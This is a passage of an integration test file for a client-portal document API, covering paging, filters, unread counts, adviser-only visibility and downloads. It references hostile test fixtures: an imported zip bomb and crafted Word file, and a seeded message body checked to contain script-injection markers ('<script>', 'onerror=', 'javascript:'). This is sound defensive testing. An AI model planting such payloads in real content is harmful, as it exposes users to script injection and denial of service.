import { request as httpRequest } from "node:http";
import { and, eq, sql } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { capabilities, documents, featureToggles, users } from "../../server/db/schema";
import { attachmentAllowance, readEnv } from "../../server/env";
import { craftedWordDocument, SAMPLES, wordDocument, workbook, zipBomb } from "../sample-files";
import { CALLER, type ErrorAnswer, type Platform, withPlatform } from "./harness";

type Typed = { _type: string; _val: string };
type Doc = {
  id: number;
  subject: string;
  doctype: string;
  doctype_name: string;
  docsubtype: string | null;
  categories: Array<{ id: number; name: string }>;
  created_date: Typed;
  reference_date: Typed | null;
  entity_ids: number[];
  is_client_access_accessible: boolean;
  is_related_entity: boolean;
  has_been_seen: boolean;
  session_info: { firstread: Typed | null };
  attachment_count: number;
  digital_signature_status: string | null;
  creator: { id: number | null; name: string };
  bookmark: string;
};
type Attachment = { docpartid: number; filename: string; content_type: string; size: number; created_date: Typed };
type DocWithAttachments = Doc & { attachments: Attachment[] };

const ELLIE = 1;
const JAMES = 2;
const SORTS = ["-created_date", "created_date", "-reference_date", "reference_date", "subject", "-subject"] as const;

const harness = withPlatform();
let ellie: string;
let adviser: string;
let priyaEntity: number;

/** Rows straight from the database: what a client of these entities may see. */
function visibleIds(p: Platform, entityIds: number[], adviserView = false): number[] {
  const rows = p.db.$client
    .prepare(
      `select distinct d.id from documents d join document_entities de on de.document_id = d.id
       where de.entity_id in (${entityIds.join(",")}) ${adviserView ? "" : "and d.is_client_access_accessible = 1"} order by d.id`,
    )
    .all() as Array<{ id: number }>;
  return rows.map((r) => r.id);
}

function adviserOnlyIds(p: Platform): number[] {
  return p.db
    .select({ id: documents.id })
    .from(documents)
    .where(eq(documents.isClientAccessAccessible, false))
    .all()
    .map((r) => r.id);
}

async function list(p: Platform, token: string, query = "") {
  return p.call<Doc[] & ErrorAnswer>(`/resourceful/docnote-v2?page_size=100${query ? `&${query}` : ""}`, { token });
}

/** Every page of a listing, following the last row's bookmark. */
async function allPages(
  p: Platform,
  token: string,
  sort: string,
  pageSize = 20,
  extra = "",
): Promise<{ rows: Doc[]; pages: number }> {
  const rows: Doc[] = [];
  let bookmark: string | null = null;
  let pages = 0;
  for (;;) {
    const query: string = `page_size=${pageSize}&page_sort=${encodeURIComponent(sort)}${bookmark ? `&page_bookmark=${encodeURIComponent(bookmark)}` : ""}${extra}`;
    const page: { status: number; body: Doc[] } = await p.call<Doc[]>(`/resourceful/docnote-v2?${query}`, { token });
    expect(page.status).toBe(200);
    pages++;
    rows.push(...page.body);
    if (page.body.length < pageSize) return { rows, pages };
    bookmark = page.body[page.body.length - 1]!.bookmark;
    if (pages > 50) throw new Error("paging does not end");
  }
}

async function openClient(p: Platform, token: string, clientId: number) {
  const answer = await p.call(`/resourceful/session/client_in_context`, {
    method: "PUT",
    token,
    body: { client_id: clientId, client_access_level: 1 },
  });
  expect(answer.status).toBe(200);
}

async function upload(
  p: Platform,
  token: string,
  documentId: number,
  name: string,
  content: Uint8Array<ArrayBuffer> | string,
  type = "",
) {
  const form = new FormData();
  form.set("content", new Blob([content], type ? { type } : {}), name);
  form.set("filename", name);
  const response = await fetch(`${p.baseUrl}/resourceful/docnote-v2/${documentId}/attachment-v3`, {
    method: "POST",
    headers: {
      ...CALLER,
      Cookie: `XPLANID=${token}`,
      "X-Xplan-Auth-Failure-Action": "error",
      Accept: "application/json",
    },
    body: form,
  });
  return {
    status: response.status,
    body: (await response.json()) as { docpartid: number; filename: string; size: number } & ErrorAnswer,
  };
}

async function compose(p: Platform, token: string, subject = "A question from me") {
  return p.call<{ id: number } & ErrorAnswer>("/resourceful/docnote-v2", {
    method: "POST",
    token,
    body: { subject, body: "<p>Hello</p>" },
  });
}

beforeAll(async () => {
  [ellie, adviser] = await Promise.all([
    harness.platform.session("demo.client"),
    harness.platform.session("demo.adviser", "adviser"),
  ]);
  priyaEntity = harness.platform.db
    .select({ e: users.entityId })
    .from(users)
    .where(eq(users.username, "demo.messages"))
    .get()!.e;
});

describe("listing documents", () => {
  it("pages by 20 through the whole list under every sort, without duplicates or gaps", async () => {
    const expected = visibleIds(harness.platform, [ELLIE, JAMES]);
    expect(expected.length).toBeGreaterThan(30);
    for (const sort of SORTS) {
      const { rows, pages } = await allPages(harness.platform, ellie, sort);
      expect(pages, sort).toBeGreaterThanOrEqual(2);
      const ids = rows.map((r) => r.id);
      expect(new Set(ids).size, sort).toBe(ids.length);
      expect(
        [...ids].sort((a, b) => a - b),
        sort,
      ).toEqual(expected);
      // the order is the sort's, ties by id in the same direction
      const sign = sort.startsWith("-") ? -1 : 1;
      const keyOf = (d: Doc) =>
        sort.endsWith("created_date")
          ? d.created_date._val
          : sort.endsWith("reference_date")
            ? (d.reference_date?._val ?? "")
            : d.subject.toLowerCase();
      const resorted = [...rows].sort(
        (a, b) => sign * (keyOf(a) < keyOf(b) ? -1 : keyOf(a) > keyOf(b) ? 1 : a.id - b.id),
      );
      expect(ids, sort).toEqual(resorted.map((r) => r.id));
    }
    // an odd page size pages the same way
    const small = await allPages(harness.platform, ellie, "-created_date", 7);
    expect(small.rows.map((r) => r.id)).toEqual(
      (await allPages(harness.platform, ellie, "-created_date", 100)).rows.map((r) => r.id),
    );
  });

  it("defaults to newest first and 20 a page, and refuses a bookmark of another sort", async () => {
    const first = await harness.platform.call<Doc[]>("/resourceful/docnote-v2?session_info=true", { token: ellie });
    expect(first.body).toHaveLength(20);
    const dates = first.body.map((d) => d.created_date._val);
    expect(dates).toEqual([...dates].sort().reverse());
    const wrong = await harness.platform.call(
      `/resourceful/docnote-v2?page_sort=subject&page_bookmark=${first.body[19]!.bookmark}`,
      { token: ellie },
    );
    expect(wrong.status).toBe(400);
    expect((await harness.platform.call("/resourceful/docnote-v2?page_size=101", { token: ellie })).status).toBe(400);
    expect((await harness.platform.call("/resourceful/docnote-v2")).status).toBe(401);
  });

  it("answers the document shape", async () => {
    const { body } = await list(harness.platform, ellie, "subject=Documents%20for%20your%20pension%20transfer");
    expect(body).toHaveLength(1);
    expect(body[0]).toMatchObject({
      doctype: "SecureMessage",
      doctype_name: "Secure Message",
      docsubtype: null,
      categories: [{ id: 1, name: "Important" }],
      entity_ids: [ELLIE],
      is_client_access_accessible: true,
      is_related_entity: false,
      has_been_seen: false,
      session_info: { firstread: null },
      attachment_count: 2,
      digital_signature_status: null,
      creator: { name: "Sarah Whitfield" },
    });
    expect(body[0]!.created_date._type).toBe("DateTime");
  });

  it("filters by document type, excluded type, category and subtype", async () => {
    const valuations = (await list(harness.platform, ellie, "doctype.0=Valuation")).body;
    expect(valuations.length).toBeGreaterThanOrEqual(8);
    expect(valuations.every((d) => d.doctype === "Valuation")).toBe(true);
    const two = (await list(harness.platform, ellie, "doctype.0=Valuation&doctype.1=ContractNote")).body;
    expect(new Set(two.map((d) => d.doctype))).toEqual(new Set(["Valuation", "ContractNote"]));
    const all = (await list(harness.platform, ellie)).body;
    const excluded = (await list(harness.platform, ellie, "doctype_exclude.0=Valuation&doctype_exclude.1=ContractNote"))
      .body;
    expect(excluded.length).toBe(all.length - two.length);
    expect(excluded.some((d) => d.doctype === "Valuation" || d.doctype === "ContractNote")).toBe(false);

    const important = (await list(harness.platform, ellie, "categories.0=1")).body;
    expect(important.length).toBeGreaterThanOrEqual(3);
    expect(important.every((d) => d.categories.some((c) => c.name === "Important"))).toBe(true);
    expect(all.filter((d) => d.categories.some((c) => c.id === 1)).map((d) => d.id)).toEqual(
      important.map((d) => d.id),
    );

    const sent = (await list(harness.platform, ellie, "docsubtype=Client%20Initiated")).body;
    expect(sent.length).toBeGreaterThanOrEqual(3);
    expect(sent.every((d) => d.docsubtype === "Client Initiated" && d.creator.name === "Ellie Hartley")).toBe(true);
    const received = (await list(harness.platform, ellie, "docsubtype_exclude=Client%20Initiated")).body;
    expect(received.length).toBe(all.length - sent.length);
    expect(received.some((d) => d.docsubtype === "Client Initiated")).toBe(false);
  });

  it("filters the items to sign, the unread ones and a created date range", async () => {
    const pending = (await list(harness.platform, ellie, "digital_signature_status=Pending")).body;
    // the seeded signature items awaiting signatures or pending (digital-signature-api.test.ts), and
    // an older message to sign that has no signature item
    expect(pending.map((d) => d.subject)).toEqual([
      "Letter of authority: please sign",
      "Joint account application: please sign",
      "Your annual review pack",
      "Discretionary management agreement: please sign",
    ]);
    expect((await list(harness.platform, ellie, "digital_signature_status=Signed")).body.map((d) => d.subject)).toEqual(
      ["Suitability report acknowledgement: please sign"],
    );
    expect(
      (await list(harness.platform, ellie, "digital_signature_status=Declined")).body.map((d) => d.subject),
    ).toEqual(["Fee agreement 2025: please sign"]);

    const all = (await list(harness.platform, ellie)).body;
    const unread = (await list(harness.platform, ellie, "firstread.include_read_notes=false")).body;
    expect(unread.length).toBeGreaterThanOrEqual(3);
    expect(unread.map((d) => d.id)).toEqual(all.filter((d) => !d.has_been_seen).map((d) => d.id));
    expect(unread.every((d) => d.session_info.firstread === null)).toBe(true);
    // whose reading counts: James has read the latest valuation, Ellie has not
    const jamesUnread = (
      await list(harness.platform, ellie, `firstread.include_read_notes=false&firstread.entity_id=${JAMES}`)
    ).body;
    expect(jamesUnread.map((d) => d.id)).not.toEqual(unread.map((d) => d.id));

    const start = "2024-06-01";
    const end = "2024-12-31";
    const ranged = (
      await list(harness.platform, ellie, `created_date.start_date=${start}&created_date.end_date=${end}`)
    ).body;
    const inRange = all.filter(
      (d) => d.created_date._val.slice(0, 10) >= start && d.created_date._val.slice(0, 10) <= end,
    );
    expect(ranged.length).toBeGreaterThan(0);
    expect(ranged.map((d) => d.id)).toEqual(inRange.map((d) => d.id));
    expect((await list(harness.platform, ellie, "created_date.start_date=2025-02-30")).status).toBe(400);
  });

  it("searches the subject plainly (anywhere, any case) and with wildcards", async () => {
    const all = (await list(harness.platform, ellie)).body;
    const plain = (await list(harness.platform, ellie, "subject=isa")).body;
    expect(plain.map((d) => d.id)).toEqual(all.filter((d) => d.subject.toLowerCase().includes("isa")).map((d) => d.id));
    expect(plain.length).toBeGreaterThanOrEqual(2);
    const prefix = (await list(harness.platform, ellie, "subject=contract%20note*")).body;
    expect(prefix.length).toBeGreaterThanOrEqual(4);
    expect(prefix.every((d) => d.subject.toLowerCase().startsWith("contract note"))).toBe(true);
    const anchored = (await list(harness.platform, ellie, "subject=*2024")).body;
    expect(anchored.map((d) => d.id)).toEqual(all.filter((d) => d.subject.endsWith("2024")).map((d) => d.id));
    expect((await list(harness.platform, ellie, "subject=100%25")).body).toEqual([]);
  });

  it("limits to the named entities of the visible set and refuses others with 403", async () => {
    const jamesOnly = (await list(harness.platform, ellie, `entity_ids.0=${JAMES}`)).body;
    expect(jamesOnly.map((d) => d.id).sort((a, b) => a - b)).toEqual(visibleIds(harness.platform, [JAMES]));
    expect(jamesOnly.every((d) => d.entity_ids.includes(JAMES))).toBe(true);
    const related = jamesOnly.filter((d) => d.is_related_entity);
    expect(related.length).toBeGreaterThanOrEqual(3);
    expect(related.every((d) => !d.entity_ids.includes(ELLIE))).toBe(true);
    const foreign = await list(harness.platform, ellie, `entity_ids.0=${priyaEntity}`);
    expect(foreign.status).toBe(403);
    expect(foreign.body.api_message).toBe("Permission Error: You do not have access to this entity");
    expect((await list(harness.platform, ellie, `firstread.entity_id=${priyaEntity}`)).status).toBe(403);
  });

  it("lists the categories and document types, all or those of members", async () => {
    const categories = await harness.platform.call<Array<{ id: number; name: string }>>(
      "/resourceful/docnote-v2/category",
      {
        token: ellie,
      },
    );
    expect(categories.body).toContainEqual({ id: 1, name: "Important" });
    const types = await harness.platform.call<Array<{ code: string; name: string }>>(
      "/resourceful/docnote-v2/doctype",
      {
        token: ellie,
      },
    );
    expect(types.body).toContainEqual({ code: "ContractNote", name: "Contract note" });
    expect(types.body).toHaveLength(6);
    const james = await harness.platform.call<Array<{ code: string }>>(
      `/resourceful/docnote-v2/doctype?member_ids=${JAMES}`,
      {
        token: ellie,
      },
    );
    expect(james.body.map((t) => t.code).sort()).toEqual([
      "AnnualReview",
      "ContractNote",
      "Letter",
      "SecureMessage",
      "TermsAndConditions",
      "Valuation",
    ]);
    const priya = await harness.platform.session("demo.messages");
    const own = await harness.platform.call<Array<{ code: string }>>(
      `/resourceful/docnote-v2/doctype?member_ids=${priyaEntity}`,
      { token: priya },
    );
    expect(own.body.map((t) => t.code).sort()).toEqual(["Letter", "SecureMessage", "TermsAndConditions", "Valuation"]);
    expect(
      (await harness.platform.call(`/resourceful/docnote-v2/doctype?member_ids=${ELLIE}`, { token: priya })).status,
    ).toBe(403);
  });
});

describe("who sees what", () => {
  it("never gives a client an adviser-only note, and answers 404 for its id everywhere", async () => {
    const hidden = adviserOnlyIds(harness.platform);
    expect(hidden.length).toBeGreaterThanOrEqual(2);
    const { rows } = await allPages(harness.platform, ellie, "-created_date", 100);
    expect(rows.some((d) => !d.is_client_access_accessible || hidden.includes(d.id))).toBe(false);
    for (const id of hidden) {
      for (const path of [
        `/resourceful/docnote-v2/${id}`,
        `/resourceful/docnote-v2/${id}/body`,
        `/resourceful/docnote-v2/${id}/attachment-v4`,
        `/resourceful/docnote/files/${id}/1/x.pdf`,
      ]) {
        const answer = await harness.platform.call(path, { token: ellie });
        expect(answer.status, path).toBe(404);
        expect(answer.body.api_message, path).toBe("Document not found");
      }
      const read = await harness.platform.call(`/resourceful/docnote-v2/${id}/firstread`, {
        method: "POST",
        token: ellie,
      });
      expect(read.status).toBe(404);
    }
    // guessing ids beyond and around the seeded ones reveals nothing either
    for (const id of [9999, 0x7fffffff])
      expect((await harness.platform.call(`/resourceful/docnote-v2/${id}`, { token: ellie })).status).toBe(404);
  });

  it("shows an adviser with the client in context the adviser-only notes, marked", async () => {
    const withoutClient = await harness.platform.call("/resourceful/docnote-v2", { token: adviser });
    expect(withoutClient.status).toBe(400);
    expect(withoutClient.body.api_message).toBe("I am not a clientUser and no client in context");
    await openClient(harness.platform, adviser, ELLIE);
    const { rows } = await allPages(harness.platform, adviser, "-created_date", 20);
    expect(rows.map((r) => r.id).sort((a, b) => a - b)).toEqual(visibleIds(harness.platform, [ELLIE, JAMES], true));
    const notes = rows.filter((r) => !r.is_client_access_accessible);
    expect(notes.map((n) => n.id).sort((a, b) => a - b)).toEqual(adviserOnlyIds(harness.platform));
    const one = await harness.platform.call<DocWithAttachments>(`/resourceful/docnote-v2/${notes[0]!.id}`, {
      token: adviser,
    });
    expect(one.status).toBe(200);
    expect(one.body.is_client_access_accessible).toBe(false);
  });

  it("shows a Messages-level client only their own documents", async () => {
    const priya = await harness.platform.session("demo.messages");
    const { rows } = await allPages(harness.platform, priya, "-created_date");
    const own = visibleIds(harness.platform, [priyaEntity]);
    expect(own).toHaveLength(8);
    expect(rows.map((r) => r.id).sort((a, b) => a - b)).toEqual(own);
    expect(rows.filter((r) => !r.has_been_seen)).toHaveLength(2);
    expect(rows.filter((r) => r.attachment_count > 0)).toHaveLength(1);
    const ellies = visibleIds(harness.platform, [ELLIE]);
    expect((await harness.platform.call(`/resourceful/docnote-v2/${ellies[0]}`, { token: priya })).status).toBe(404);
  });

  it("answers the body as stored HTML and the attachments", async () => {
    const { body } = await list(harness.platform, ellie, "subject=Formatting%20test*");
    const id = body[0]!.id;
    const response = await fetch(`${harness.platform.baseUrl}/resourceful/docnote-v2/${id}/body`, {
      headers: { ...CALLER, Cookie: `XPLANID=${ellie}` },
    });
    expect(response.headers.get("content-type")).toBe("text/html; charset=utf-8");
    const html = await response.text();
    expect(html).toContain("<script>");
    expect(html).toContain("onerror=");
    expect(html).toContain("javascript:");
    const budget = (await list(harness.platform, ellie, "subject=Your%20portfolio%20after%20the%20Budget")).body[0]!;
    const attachments = await harness.platform.call<Attachment[]>(
      `/resourceful/docnote-v2/${budget.id}/attachment-v4`,
      {
        token: ellie,
      },
    );
    expect(attachments.body).toEqual([
      expect.objectContaining({
        filename: "Cash flow forecast 2025.xlsx",
        content_type: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      }),
    ]);
    const logo = await fetch(`${harness.platform.baseUrl}/resourceful/docnote/images/logo.png`, { headers: CALLER });
    expect(logo.status).toBe(200);
    expect(
      Buffer.from(await logo.arrayBuffer())
        .subarray(1, 4)
        .toString(),
    ).toBe("PNG");
  });

  it("downloads seeded files with their type and name: PDF, PNG and a macro-enabled document", async () => {
    const pension = (await list(harness.platform, ellie, "subject=Documents%20for%20your%20pension%20transfer"))
      .body[0]!;
    const one = await harness.platform.call<DocWithAttachments>(`/resourceful/docnote-v2/${pension.id}`, {
      token: ellie,
    });
    const docm = one.body.attachments.find((a) => a.filename.endsWith(".docm"))!;
    expect(docm.content_type).toBe("application/vnd.ms-word.document.macroEnabled.12");
    const file = await fetch(
      `${harness.platform.baseUrl}/resourceful/docnote/files/${pension.id}/${docm.docpartid}/${encodeURIComponent(docm.filename)}`,
      {
        headers: { ...CALLER, Cookie: `XPLANID=${ellie}` },
      },
    );
    expect(file.status).toBe(200);
    expect(file.headers.get("content-disposition")).toBe(
      `attachment; filename="Fact find update.docm"; filename*=UTF-8''Fact%20find%20update.docm`,
    );
    const bytes = Buffer.from(await file.arrayBuffer());
    expect(bytes.length).toBe(docm.size);
    expect(bytes.subarray(0, 2).toString()).toBe("PK");
    const valuation = (await list(harness.platform, ellie, "doctype.0=Valuation")).body.find(
      (d) => d.attachment_count > 0,
    )!;
    const [pdf] = (
      await harness.platform.call<Attachment[]>(`/resourceful/docnote-v2/${valuation.id}/attachment-v4`, {
        token: ellie,
      })
    ).body;
    const pdfFile = await fetch(
      `${harness.platform.baseUrl}/resourceful/docnote/files/${valuation.id}/${pdf!.docpartid}/${encodeURIComponent(pdf!.filename)}`,
      {
        headers: { ...CALLER, Cookie: `XPLANID=${ellie}` },
      },
    );
    expect(pdfFile.headers.get("content-type")).toBe("application/pdf");
    const text = Buffer.from(await pdfFile.arrayBuffer()).toString("latin1");
    expect(text.startsWith("%PDF-1.4")).toBe(true);
    expect(text.trimEnd().endsWith("%%EOF")).toBe(true);
    // the cross-reference offset points at the xref table
    const startxref = Number(/startxref\n(\d+)/.exec(text)![1]);
    expect(text.slice(startxref, startxref + 4)).toBe("xref");
    // a wrong name or a part of another document is not found
    expect(
      (
        await harness.platform.call(`/resourceful/docnote/files/${valuation.id}/${pdf!.docpartid}/other.pdf`, {
          token: ellie,
        })
      ).status,
    ).toBe(404);
    expect(
      (
        await harness.platform.call(
          `/resourceful/docnote/files/${pension.id}/${pdf!.docpartid}/${encodeURIComponent(pdf!.filename)}`,
          { token: ellie },
        )
      ).status,
    ).toBe(404);
  });
});

describe("counting documents (issue 38: the unread badge's count)", () => {
  type Count = { count: number } & ErrorAnswer;
  const count = (p: Platform, token: string | null, query = "", authFailureAsError = true) =>
    p.call<Count>(`/resourceful/docnote-v2/count${query ? `?${query}` : ""}`, { token, authFailureAsError });
  // the badge's own filters (app/planning/unread.server.ts): the received documents not yet read
  const BADGE = "firstread.include_read_notes=false&docsubtype_exclude=Client%20Initiated";
  const FILTERS = [
    "",
    BADGE,
    "firstread.include_read_notes=false",
    "docsubtype=Client%20Initiated",
    "doctype.0=Valuation&doctype.1=ContractNote",
    "doctype_exclude=SecureMessage,Letter",
    `categories.0=1&${BADGE}`,
    `entity_ids.0=${JAMES}`,
    `entity_ids.0=${ELLIE}&${BADGE}`,
    "digital_signature_status=Pending",
    "subject=contract%20note*",
    "created_date.start_date=2024-06-01&created_date.end_date=2024-12-31",
    `firstread.include_read_notes=false&firstread.entity_id=${JAMES}`,
  ];

  /** The count and the list's length for the same caller and filters (the list whole in one page). */
  async function countAndList(token: string, query: string) {
    const [counted, listed] = await Promise.all([
      count(harness.platform, token, query),
      list(harness.platform, token, query),
    ]);
    expect(counted.status, query).toBe(200);
    expect(listed.status, query).toBe(200);
    expect(listed.body.length, query).toBeLessThan(100);
    return { count: counted.body.count, ids: listed.body.map((d) => d.id) };
  }

  it("answers { count } for a client: the length of the list with the same filters", async () => {
    const answer = await count(harness.platform, ellie, BADGE);
    expect(Object.keys(answer.body)).toEqual(["count"]);
    expect(answer.body.count).toBeGreaterThanOrEqual(3);
    for (const query of FILTERS) {
      const { count: n, ids } = await countAndList(ellie, query);
      expect(n, query).toBe(ids.length);
    }
    // the whole of what she sees, over every page (the list's 20 a page do not limit the count)
    expect((await count(harness.platform, ellie)).body.count).toBe(visibleIds(harness.platform, [ELLIE, JAMES]).length);
  });

  it("leaves out the documents named by id_exclude, the list too; one the caller does not see changes nothing", async () => {
    const { count: unread, ids } = await countAndList(ellie, BADGE);
    const [opening, other] = ids;
    const without = await countAndList(ellie, `${BADGE}&id_exclude.0=${opening}`);
    expect(without.count).toBe(unread - 1);
    expect(without.ids).toEqual(ids.filter((id) => id !== opening));
    expect((await count(harness.platform, ellie, `${BADGE}&id_exclude=${opening},${other}`)).body.count).toBe(
      unread - 2,
    );
    // one already read, an adviser-only note, one that does not exist: not among those counted
    const read = (await list(harness.platform, ellie)).body.find((d) => d.has_been_seen)!;
    const [note] = adviserOnlyIds(harness.platform);
    for (const id of [read.id, note, 999999])
      expect((await count(harness.platform, ellie, `${BADGE}&id_exclude.0=${id}`)).body.count, String(id)).toBe(unread);
  });

  it("counts for an adviser with the client in context what the list shows them, adviser-only notes included", async () => {
    const counsel = await harness.platform.session("demo.adviser", "adviser");
    const withoutClient = await count(harness.platform, counsel, BADGE);
    expect(withoutClient.status).toBe(400);
    expect(withoutClient.body.api_message).toBe("I am not a clientUser and no client in context");
    await openClient(harness.platform, counsel, ELLIE);
    for (const query of [...FILTERS, `${BADGE}&id_exclude.0=${adviserOnlyIds(harness.platform)[0]}`]) {
      const { count: n, ids } = await countAndList(counsel, query);
      expect(n, query).toBe(ids.length);
    }
    const all = (await count(harness.platform, counsel)).body.count;
    expect(all).toBe(visibleIds(harness.platform, [ELLIE, JAMES], true).length);
    expect(all).toBe((await count(harness.platform, ellie)).body.count + adviserOnlyIds(harness.platform).length);
  });

  it("never counts a document the caller may not see, and refuses entities outside the visible set with 403", async () => {
    const priya = await harness.platform.session("demo.messages");
    expect((await count(harness.platform, priya)).body.count).toBe(visibleIds(harness.platform, [priyaEntity]).length);
    expect((await count(harness.platform, priya, "firstread.include_read_notes=false")).body.count).toBe(2);
    // Ellie's documents are none of hers, by id or by entity
    const ellies = visibleIds(harness.platform, [ELLIE]);
    const own = (await count(harness.platform, priya)).body.count;
    expect((await count(harness.platform, priya, `id_exclude=${ellies.join(",")}`)).body.count).toBe(own);
    const foreign = await count(harness.platform, ellie, `entity_ids.0=${priyaEntity}`);
    expect(foreign.status).toBe(403);
    expect(foreign.body.api_message).toBe("Permission Error: You do not have access to this entity");
    expect((await count(harness.platform, ellie, `firstread.entity_id=${priyaEntity}`)).status).toBe(403);
  });

  it("answers 401 without a session like the list, and 400 to paging or a filter the list refuses", async () => {
    const [counted, listed] = await Promise.all([
      count(harness.platform, null, BADGE),
      list(harness.platform, "", BADGE),
    ]);
    expect(counted.status).toBe(401);
    expect(counted.body).toEqual(listed.body);
    expect((await count(harness.platform, null, BADGE, false)).status).toBe(302);
    for (const query of [
      "page_size=21",
      "page_sort=subject",
      "page_bookmark=abc",
      "created_date.start_date=2025-02-30",
      "id_exclude.0=abc",
      "digital_signature_status=Maybe",
    ]) {
      const answer = await count(harness.platform, ellie, query);
      expect(answer.status, query).toBe(400);
      expect(answer.body.api_message, query).toMatch(/^Invalid query: /);
    }
  });

  it("answers in a batch as on its own", async () => {
    const alone = (await count(harness.platform, ellie, BADGE)).body;
    const batch = await harness.platform.call<Array<{ name: string; code: number; body: string }>>("/resourceful", {
      method: "POST",
      token: ellie,
      body: { batch: [{ name: "unread", method: "GET", url: `docnote-v2/count?${BADGE}` }] },
    });
    expect(batch.status).toBe(200);
    expect(batch.body[0]).toMatchObject({ name: "unread", code: 200 });
    expect(JSON.parse(batch.body[0]!.body)).toEqual(alone);
  });
});

describe("changing documents", () => {
  const changing = withPlatform();
  let client: string;
  let counsel: string;
  beforeAll(async () => {
    [client, counsel] = await Promise.all([
      changing.platform.session("demo.client"),
      changing.platform.session("demo.adviser", "adviser"),
    ]);
  });

  it("hides James's documents from Ellie without partner viewing", async () => {
    const jamesOnly = visibleIds(changing.platform, [JAMES]).filter(
      (id) => !visibleIds(changing.platform, [ELLIE]).includes(id),
    );
    expect(jamesOnly.length).toBeGreaterThanOrEqual(3);
    const before = (await list(changing.platform, client)).body.map((d) => d.id);
    expect(jamesOnly.every((id) => before.includes(id))).toBe(true);
    changing.platform.db
      .delete(capabilities)
      .where(and(eq(capabilities.entityId, ELLIE), eq(capabilities.name, "view_partner")))
      .run();
    try {
      const after = (await list(changing.platform, client)).body.map((d) => d.id);
      expect(after.some((id) => jamesOnly.includes(id))).toBe(false);
      expect(after.length).toBe(before.length - jamesOnly.length);
      // the count (issue 38) leaves them out with the list, and refuses his entity as the list does
      const counted = await changing.platform.call<{ count: number }>("/resourceful/docnote-v2/count", {
        token: client,
      });
      expect(counted.body.count).toBe(after.length);
      expect(
        (await changing.platform.call(`/resourceful/docnote-v2/count?entity_ids.0=${JAMES}`, { token: client })).status,
      ).toBe(403);
      expect((await changing.platform.call(`/resourceful/docnote-v2/${jamesOnly[0]}`, { token: client })).status).toBe(
        404,
      );
      expect((await list(changing.platform, client, `entity_ids.0=${JAMES}`)).status).toBe(403);
    } finally {
      changing.platform.db.insert(capabilities).values({ entityId: ELLIE, name: "view_partner" }).run();
    }
    expect((await list(changing.platform, client)).body.map((d) => d.id)).toEqual(before);
  });

  it("shows every login-accessible member's documents with related entities on, partner viewing or not (spec 002 §6)", async () => {
    const jamesOnly = visibleIds(changing.platform, [JAMES]).filter(
      (id) => !visibleIds(changing.platform, [ELLIE]).includes(id),
    );
    const setRelated = (enabled: boolean) =>
      changing.platform.db
        .update(featureToggles)
        .set({ enabled })
        .where(eq(featureToggles.name, "related_entities"))
        .run();
    changing.platform.db
      .delete(capabilities)
      .where(and(eq(capabilities.entityId, ELLIE), eq(capabilities.name, "view_partner")))
      .run();
    setRelated(true);
    try {
      const ids = (await list(changing.platform, client)).body.map((d) => d.id);
      expect(jamesOnly.every((id) => ids.includes(id))).toBe(true);
      const counted = await changing.platform.call<{ count: number }>("/resourceful/docnote-v2/count", {
        token: client,
      });
      expect(counted.body.count).toBe(ids.length);
      const jamesList = await list(changing.platform, client, `entity_ids.0=${JAMES}`);
      expect(jamesList.status).toBe(200);
      expect(jamesList.body.length).toBeGreaterThan(0);
      expect(jamesList.body.every((d) => d.is_related_entity || d.entity_ids.includes(ELLIE))).toBe(true);
      expect((await changing.platform.call(`/resourceful/docnote-v2/${jamesOnly[0]}`, { token: client })).status).toBe(
        200,
      );
      // a member who does not log in stays out of reach (the seed's child)
      const members = (
        await changing.platform.call<Array<{ entity_id: number; login_accessible: boolean }>>(
          `/resourceful/entity/client/${ELLIE}/client_group/member`,
          { token: client },
        )
      ).body;
      const hidden = members.find((m) => !m.login_accessible);
      if (!hidden) throw new Error("the seed's client group has a member without a login");
      expect((await list(changing.platform, client, `entity_ids.0=${hidden.entity_id}`)).status).toBe(403);
    } finally {
      setRelated(false);
      changing.platform.db.insert(capabilities).values({ entityId: ELLIE, name: "view_partner" }).run();
    }
  });

  it("records a client's first read once, and an adviser's never", async () => {
    const unread = (await list(changing.platform, client, "firstread.include_read_notes=false")).body;
    const target = unread[0]!;
    expect(
      (
        await changing.platform.call(`/resourceful/docnote-v2/${target.id}/firstread`, {
          method: "POST",
          token: client,
        })
      ).status,
    ).toBe(204);
    const first = (await changing.platform.call<Doc>(`/resourceful/docnote-v2/${target.id}`, { token: client })).body;
    expect(first.has_been_seen).toBe(true);
    expect(first.session_info.firstread?._val).toBe(
      new Date(changing.platform.clock.now()).toISOString().replace(/\.\d{3}Z$/, "Z"),
    );
    (changing.platform.clock as { advance(ms: number): void }).advance(10 * 60_000);
    expect(
      (
        await changing.platform.call(`/resourceful/docnote-v2/${target.id}/firstread`, {
          method: "POST",
          token: client,
        })
      ).status,
    ).toBe(204);
    const second = (await changing.platform.call<Doc>(`/resourceful/docnote-v2/${target.id}`, { token: client })).body;
    expect(second.session_info.firstread).toEqual(first.session_info.firstread);
    const after = (await list(changing.platform, client, "firstread.include_read_notes=false")).body;
    expect(after.map((d) => d.id)).toEqual(unread.slice(1).map((d) => d.id));

    await openClient(changing.platform, counsel, ELLIE);
    const other = after[0]!;
    expect(
      (
        await changing.platform.call(`/resourceful/docnote-v2/${other.id}/firstread`, {
          method: "POST",
          token: counsel,
        })
      ).status,
    ).toBe(204);
    expect(
      (await changing.platform.call<Doc>(`/resourceful/docnote-v2/${other.id}`, { token: client })).body.has_been_seen,
    ).toBe(false);
    expect((await list(changing.platform, client, "firstread.include_read_notes=false")).body).toHaveLength(
      after.length,
    );
  });

  it("creates a client's message with the compose flags; advisers and one-way messaging are refused", async () => {
    const created = await compose(changing.platform, client, "  Question about my pension  ");
    expect(created.status).toBe(201);
    const doc = (await changing.platform.call<Doc>(`/resourceful/docnote-v2/${created.body.id}`, { token: client }))
      .body;
    const ellieUser = changing.platform.db.select().from(users).where(eq(users.username, "demo.client")).get()!;
    expect(doc).toMatchObject({
      subject: "Question about my pension",
      doctype: "SecureMessage",
      docsubtype: "Client Initiated",
      is_client_access_accessible: true,
      is_related_entity: false,
      has_been_seen: false,
      entity_ids: [ELLIE],
      creator: { id: ellieUser.id, name: "Ellie Hartley" },
    });
    const row = changing.platform.db.select().from(documents).where(eq(documents.id, created.body.id)).get()!;
    expect(row.editPrivilege).toBe(8);
    expect(row.permission).toBe("Shared With Client Groups");
    expect((await list(changing.platform, client, "docsubtype=Client%20Initiated")).body[0]!.id).toBe(created.body.id);

    const byAdviser = await compose(changing.platform, counsel);
    expect(byAdviser.status).toBe(403);
